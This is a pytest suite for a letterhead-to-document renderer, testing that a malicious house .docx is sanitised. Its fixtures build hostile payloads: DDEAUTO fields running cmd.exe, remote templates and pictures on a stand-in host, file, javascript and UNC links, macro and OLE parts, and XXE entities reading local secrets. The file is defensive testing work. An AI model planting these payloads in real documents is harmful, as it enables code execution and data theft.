# ruff: noqa: E501
"""From a house file only what a letterhead needs comes into a document; what is left out is named."""

import functools
import re
import tempfile
from pathlib import Path
from typing import Any

import pytest

from hostile.damage import plain, zipped
from hostile.kit import HOUSE, ONE, SECRET, Run, cases, decent, plant, tdocs, unix
from hostile.parts import R, docx, members, paragraph, parts, relation

pytestmark = unix
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
BAD = "boese-4c1f"
"""Stands in everything that must not come through."""

RENDER = ("render", "--format", "docx", *ONE, "--house", "../haus.docx")
DOCUMENT = "ausgabe/haus/leistungsbeschreibung.docx"
DRAWING = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="Bild">{click}</wp:docPr>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr>'
    '<pic:cNvPr id="0" name=""/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {how}="rIdX"/></pic:blipFill>'
    "<pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
How = dict[str, Any]


def simple(words: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{words}"><w:r><w:t>Feld</w:t></w:r></w:fldSimple></w:p>'


def complex_field(*runs: str) -> str:
    """A field whose instruction is split over runs."""
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    middle = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
    rest = '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Feld</w:t></w:r>'
    return f'<w:p>{begin}{middle}{rest}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def inside(field: str) -> str:
    """In a text box, as a letterhead has them."""
    return (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:90pt;height:20pt"><v:textbox>'
        f"<w:txbxContent>{field}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    )


def wrapped(field: str) -> str:
    """In a content control."""
    return f"<w:sdt><w:sdtPr/><w:sdtContent>{field}</w:sdtContent></w:sdt>"


def linked(target: str) -> How:
    body = '<w:p><w:hyperlink r:id="rIdX"><w:r><w:t>hier</w:t></w:r></w:hyperlink></w:p>'
    return {"body": body, "document_relations": (relation("rIdX", "hyperlink", target, external=True),)}


def part(kind: str, name: str, how: str = "", base: str = R, type_: str = "application/octet-stream") -> How:
    """A part of the package with a relation to it and a place in the text that uses it."""
    return {
        "body": how + paragraph("Briefkopf"),
        "document_relations": (relation("rIdX", kind, name, base=base),),
        "content_types": (f'<Override PartName="/word/{name}" ContentType="{type_}"/>',),
        "more": {f"word/{name}": f"<x>{BAD}</x>"},
    }


def outer(kind: str, how: str, base: str = R) -> How:
    target = f"https://{BAD}.example.org/x"
    return {"body": how, "document_relations": (relation("rIdX", kind, target, external=True, base=base),)}


OBJECT = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" r:id="rIdX"/></w:object></w:r></w:p>'
EVIL: dict[str, How] = {
    "DDEAUTO": {"body": simple(f"DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k {BAD}&quot;")},
    "DDE in the header": {"header": simple(f"DDE Excel {BAD}") + paragraph("[Stand]")},
    "DDEAUTO over runs": {"body": complex_field("D", "DEAU", "TO c:\\\\", f" {BAD}")},
    "DDE in a text box": {"header": inside(complex_field(f"DDEAUTO x {BAD}"))},
    "field in a field": {
        "body": complex_field(
            "PAGE </w:instrText></w:r>" + complex_field(f"DDE x {BAD}")[5:-6] + "<w:r><w:instrText>"
        )
    },
    "INCLUDETEXT": {"body": simple(f"INCLUDETEXT &quot;file:///etc/{BAD}&quot;")},
    "INCLUDEPICTURE": {"header": complex_field(f'INCLUDEPICTURE "https://{BAD}.example.org/x.png" \\d')},
    "FILENAME": {"header": simple(f"FILENAME \\\\p {BAD}")},
    "HYPERLINK field": {"body": complex_field(f'HYPERLINK "file:///c:/{BAD}.exe"')},
    "attached template": {
        "settings": '<w:attachedTemplate r:id="rIdX"/>',
        "settings_relations": (
            relation("rIdX", "attachedTemplate", f"https://{BAD}.example.org/t.dotm", external=True),
        ),
    },
    "file link": linked(f"file:///c:/{BAD}.exe"),
    "script link": linked(f"javascript:{BAD}()"),
    "share link": linked(f"\\\\{BAD}\\share\\x"),
    "picture elsewhere": outer("image", DRAWING.format(how="r:link", click="")),
    "macros": part(
        "vbaProject", "vbaProject.bin", base=MICROSOFT, type_="application/vnd.ms-office.vbaProject"
    ),
    "object": part("oleObject", "embeddings/x.bin", OBJECT),
    "object, strict": part("oleObject", "embeddings/x.bin", OBJECT, STRICT),
    "object elsewhere": outer("oleObject", OBJECT),
    "chunk": part("aFChunk", "x.html", '<w:altChunk r:id="rIdX"/>', type_="text/html"),
    "document below": outer("subDocument", '<w:p><w:subDoc r:id="rIdX"/></w:p>'),
}
UNUSED: dict[str, How] = {
    "unknown relation": part("zukunft", "x.xml", base=f"https://{BAD}.example.org"),
    "parts nobody refers to": {"more": {f"word/{BAD}.xml": f"<x>{BAD}</x>", "x.exe": BAD}},
    "relations in an odd place": {"more": {"word/x.rels": BAD, "_rels/x.rels": BAD, "word/_rels/.rels": BAD}},
}


CHECK = ("house", "--check", "../haus.docx")


def lines(*runs: Run) -> set[str]:
    return {line for run in runs for line in (run.out + run.err).splitlines() if "haus.docx:" in line}


@functools.cache
def said_of_a_good_one() -> set[str]:
    with tempfile.TemporaryDirectory() as folder:
        repo = plant(Path(folder) / "repo", HOUSE)
        plant(repo.parent, {"haus.docx": docx(body=paragraph("Briefkopf"))})
        return lines(decent(tdocs(repo, *RENDER), 0), tdocs(repo, *CHECK))


def told_of(repo: Path, content: bytes) -> tuple[Run, set[str], dict[str, bytes]]:
    """What is said of this house file, by its check too, beyond what is said of a good one, and the document."""
    good = said_of_a_good_one()
    plant(repo.parent, {"haus.docx": content})
    run = decent(tdocs(repo, *RENDER), 0, 1)
    written = repo / DOCUMENT
    assert run.code == 0 or not written.exists(), f"refused, but written\n{run}"
    return (
        run,
        lines(run, tdocs(repo, *CHECK)) - good,
        members(written.read_bytes()) if written.exists() else {},
    )


def holds_nothing_of(document: dict[str, bytes], run: Run, *words: str) -> None:
    found = sorted(
        f"{word} in {name}"
        for name, content in document.items()
        for word in words
        if word.encode() in content
    )
    assert not found, f"came through: {found}\n{run}"


@cases(EVIL)
def test_nothing_of_it_comes_into_a_document(case: How, repo: Path) -> None:
    how = {"body": paragraph("Briefkopf"), **case}
    run, more, document = told_of(repo, docx(**how))
    holds_nothing_of(document, run, BAD)
    fields = b"".join(
        b" ".join(re.findall(rb"<w:instrText[^>]*>([^<]*)", part)) for part in document.values()
    )
    assert not re.search(rb"(?i)d\s*d\s*e\s*a\s*u\s*t\s*o|includetext|includepicture", fields), (
        f"{fields!r}\n{run}"
    )
    assert more, f"what was left out is not named\n{run}"


@cases(UNUSED)
def test_what_nothing_in_the_text_uses_stays_behind(case: How, repo: Path) -> None:
    run, more, document = told_of(repo, docx(**{"body": paragraph("Briefkopf"), **case}))
    holds_nothing_of(document, run, BAD)
    assert more, f"what was left out is not named\n{run}"


def rewritten(name: str, old: str, new: str) -> bytes:
    made = {key: str(value) for key, value in parts(body=paragraph("Briefkopf")).items()}
    assert old in made[name], name
    return zipped(plain({**made, name: made[name].replace(old, new), "customUI/x.xml": f"<x>{BAD}</x>"}))


EXTRA = (
    f'<Relationship Id="rId9" Type="{MICROSOFT}/ui/extensibility" Target="customUI/x.xml"/></Relationships>'
)
AWAY = f'<Relationship Id="rId9" Type="{R}/officeDocument" Target="https://{BAD}.example.org" TargetMode="External"/></Relationships>'


@cases(
    {
        "a second purpose": rewritten("_rels/.rels", "</Relationships>", EXTRA),
        "a second document": rewritten("_rels/.rels", "</Relationships>", AWAY),
        "the document above": rewritten("_rels/.rels", "word/document.xml", f"../../{BAD}.xml"),
        "macros allowed": rewritten(
            "[Content_Types].xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        "styles elsewhere": rewritten(
            "word/_rels/document.xml.rels",
            'Target="styles.xml"',
            f'Target="file:///{BAD}" TargetMode="External"',
        ),
    }
)
def test_the_frame_of_the_package_is_not_taken_over(case: bytes, repo: Path) -> None:
    run, _, document = told_of(repo, case)
    holds_nothing_of(document, run, BAD, "macroEnabled", "customUI")


@pytest.mark.parametrize(
    "name",
    [
        "word/document.xml",
        "word/header1.xml",
    ],
)
@pytest.mark.parametrize("kind", ["inner", "outer", "parameter"])
def test_no_document_type_comes_through(name: str, kind: str, repo: Path, outside: Path) -> None:
    entity = {
        "inner": f'<!ENTITY e "{BAD}">',
        "outer": f'<!ENTITY e SYSTEM "file://{outside}/secret.txt">',
        "parameter": f'<!ENTITY % p SYSTEM "file://{outside}/secret.txt"> %p; <!ENTITY e "{BAD}">',
    }[kind]
    made = {key: str(value) for key, value in parts(body=paragraph("&e;"), header=paragraph("&e;")).items()}
    made = {key: text if key == name else text.replace("&e;", "e") for key, text in made.items()}
    head, _, rest = made[name].partition("\n")
    made[name] = f"{head}\n<!DOCTYPE x [{entity}]>{rest}"
    run, more, document = told_of(repo, zipped(plain(dict(made))))
    holds_nothing_of(document, run, BAD, SECRET, "<!DOCTYPE", "<!ENTITY")
    assert more, f"the document type is not named\n{run}"


def test_harmless_fields_stay(repo: Path) -> None:
    fields = {
        "PAGE": "PAGE",
        "NUMPAGES": "NUMPAGES  \\* Arabic",
        "STYLEREF": 'STYLEREF "heading 1"',
        "TITLE": "TITLE",
    }
    header = "".join(complex_field(f" {words} ") for words in fields.values())
    run, _, document = told_of(
        repo, docx(header=header + paragraph("[Angebot] [Stand]"), body=paragraph("x"))
    )
    assert run.code == 0, f"refused\n{run}"
    found = b"".join(content for name, content in document.items() if "header" in name)
    for name in fields:
        assert name.encode() in found, f"the field {name} is gone from the header\n{run}"


def test_links_to_the_web_and_to_a_mailbox_stay(repo: Path) -> None:
    for target in ("https://www.example.org/x", "mailto:post@example.org"):
        run, _, document = told_of(repo, docx(**linked(target)))
        assert any(target.encode() in content for content in document.values()), f"{target} is gone\n{run}"
        (repo / DOCUMENT).unlink()
